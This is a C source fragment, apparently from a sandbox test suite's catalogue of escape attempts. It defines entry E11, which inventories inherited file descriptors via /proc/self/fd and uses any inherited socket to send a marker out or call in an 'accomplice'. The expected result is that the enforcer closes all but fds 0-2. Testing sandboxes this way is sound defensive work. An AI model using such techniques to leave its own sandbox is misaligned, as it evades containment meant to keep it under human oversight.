			   "none on x32 kernels", "seccomp x32: EPERM"},
		.run = e07_x32_pidfd,
	},
	{
		.id = "E11",
		.family = FAM_ESCAPE,
		.title =
			"Inventory of inherited file descriptors, and use of any socket among them",
		.tries = "Walk /proc/self/fd: type of every fd (socket with domain, type, "
			 "protocol and netns via SIOCGSKNS; pidfd, tty, anon inode from fdinfo). "
			 "Any inherited socket is used: connected, the marker to its peer; "
			 "listening, the accomplice is called in; datagram, the marker to the "
			 "sink.",
		.syscalls =
			"opendir(/proc/self/fd); readlink; getsockopt(SO_DOMAIN/TYPE/PROTOCOL); "
			"ioctl(SIOCGSKNS); send/sendto/accept4",
		.refs = "attack-catalog.md §0.10, B6 E11",
		.expect = {"the enforcer closes every fd but 0-2 before exec" NO_WITNESS_EXP,
			   "the enforcer closes every fd but 0-2 before exec" NO_WITNESS_EXP,
			   "the enforcer closes every fd", "the enforcer closes every fd"},
		.run = escape_inherited_fds,
	},
	{0},
};
/* clang-format on */
